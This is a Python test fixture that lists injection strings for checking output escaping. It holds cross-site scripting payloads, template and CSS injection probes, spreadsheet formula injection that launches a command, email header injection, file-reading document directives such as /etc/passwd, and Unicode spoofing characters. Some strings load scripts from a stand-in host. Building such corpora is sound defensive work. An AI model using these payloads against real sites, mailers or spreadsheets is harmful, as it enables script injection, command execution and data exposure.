"""Strings that would be more than words if a page, a letter, a table or a paper took them for its own: all ours.

What would be born of one carries the mark `born`, calls `ran`, or asks for `born.example`.
"""

MARKUP = (
    "<script>ran(1)</script>",
    "<SCRIPT SRC=//born.example/1.js></SCRIPT>",
    "<scr<script>ipt>ran(2)</scr</script>ipt>",
    "<script/born>ran(3)//",
    "<img born src=x onerror=ran(4)>",
    "<img born src=x:y onerror\n=\nran(5)>",
    "<svg born onload=ran(6)>",
    "<svg><script born>ran(7)</script></svg>",
    "<svg><a born xlink:href=javascript:ran(8)><text>x</text></a></svg>",
    "<svg><animate born onbegin=ran(9) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe born srcdoc='<script>parent.ran(10)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img born src=x onerror=ran(11)></style></mglyph></table></mtext></math>",
    "<math><a born xlink:href=javascript:ran(12)>x</a></math>",
    "<iframe born src=javascript:ran(13)></iframe>",
    "<object born data=//born.example/x></object><embed born src=//born.example/y>",
    "<base born href=//born.example/>",
    "<link born rel=stylesheet href=//born.example/a.css>",
    "<meta born http-equiv=refresh content='0;url=//born.example/'>",
    "<form born action=//born.example/><input name=x autofocus onfocus=ran(14)></form>",
    "<details born open ontoggle=ran(15)>x</details>",
    "<body born onpageshow=ran(16)>",
    "<video born><source onerror=ran(17)></video>",
    "<marquee born onstart=ran(18)>x</marquee>",
    "<template born><img src=x onerror=ran(19)></template>",
    "<noscript><p title='</noscript><img born src=x onerror=ran(20)>'>",
    "<!--><img born src=x onerror=ran(21)>-->",
    "<![CDATA[><img born src=x onerror=ran(22)>]]>",
    "<?xml version='1.0'?><x born>",
    "<born-x is=born-y></born-x>",
    "<a born href=' \tjavascript:ran(23)'>x</a>",
)
BREAKING = (
    '"><img born src=x onerror=ran(24)>',
    "'><img born src=x onerror=ran(25)>",
    '" born autofocus onfocus=ran(26) x="',
    "' born onmouseover=ran(27) x='",
    "` born onclick=ran(28) x=`",
    "</textarea><script>ran(29)</script>",
    "</title><script>ran(30)</script>",
    "</option></select><img born src=x onerror=ran(31)>",
    "</style><style born>*{background:url(//born.example/a)}</style>",
    "--></script><script>ran(32)</script>",
    '"}]}</script><script>ran(33)</script>',
    '\\"};ran(34);//',
    "</p></li></ul></main></body></html><p born>",
    "]]></x><x born>",
)
ENTITIES = (
    "&lt;img born src=x onerror=ran(35)&gt;",
    "&#60;img born src=x onerror=ran(36)&#62;",
    "&#x3c;script&#x3e;ran(37)&#x3c;/script&#x3e;",
    "&amp;lt;b&amp;gt; &nbsp; &NotEqualTilde; &#0; &",
    "\\u003cscript\\u003eran(38)\\u003c/script\\u003e",
    "%3Cscript%3Eran(39)%3C/script%3E",
)
ADDRESSES = (
    "javascript:ran(40)//https://example.org/",
    "JaVaScRiPt:ran(41)",
    "data:text/html,<script>ran(42)</script>",
    "vbscript:ran(43)",
    "//born.example/",
)
TEMPLATES = (
    "{{ 7|add:7 }}{% now 'Y' %}{# gone #}",
    "{% load i18n %}{% include '404.html' %}",
    "{{ request.user.email }}${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d {0} {name} {0.__class__}",
    "data-act data-plain data-own hx-get=//born.example/ v-html=ran(44)",
)
STYLES = ("expression(ran(45))", "x;}*{background:url(//born.example/b)}", "url('javascript:ran(46)')")
TABLES = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1,1)", '=HYPERLINK("//born.example/","x")', "a\t=1+1")
HEADERS = (
    "x\r\nBcc: born@born.example",
    "x\nSubject: born",
    "x\r\n\r\n<p born>",
    "=?utf-8?q?born?= <born@born.example>",
    "x\r\nATTENDEE:mailto:born@born.example\r\nEND:VEVENT",
    "a\\nb\\;c\\,d;X-BORN=1:y",
)
PAPERS = (
    '#read("/etc/passwd")',
    '#eval("1 + 1")',
    '#image("/etc/hostname") #include "/etc/hosts" #panic()',
    "$ sum_(k=1)^n k $ *bold* _it_ `raw` = Heading @label <label>",
    "**bold** [x](javascript:ran(47)) ![x](//born.example/c.png)",
    "# Heading\n- list\n> quote\n```\ncode\n```",
)
LETTERS = (
    "\u200b\u200d\ufeffzero\u2060width",
    "\u202eright to left\u202c \u2066and\u2069",
    "\uff1cimg born src=x onerror=ran(48)\uff1e",
    "ﬁ Å Å İı ß Ω 🦉\u200d🔥 Z\u0338\u035d كيف",
    "a\x00b\x1b[31mc\x7f",
    "W" * 120,
)
CORPUS = (*MARKUP, *BREAKING, *ENTITIES, *ADDRESSES, *TEMPLATES, *STYLES, *TABLES, *HEADERS, *PAPERS, *LETTERS)


def chunks(longest: int) -> list[str]:
    """The whole corpus in texts of at most so many characters; a string that is longer by itself is left out."""
    found = [""]
    for one in (one for one in CORPUS if len(one) <= longest):
        if len(found[-1]) + len(one) + 3 > longest:
            found.append("")
        found[-1] = f"{found[-1]} | {one}" if found[-1] else one
    return found
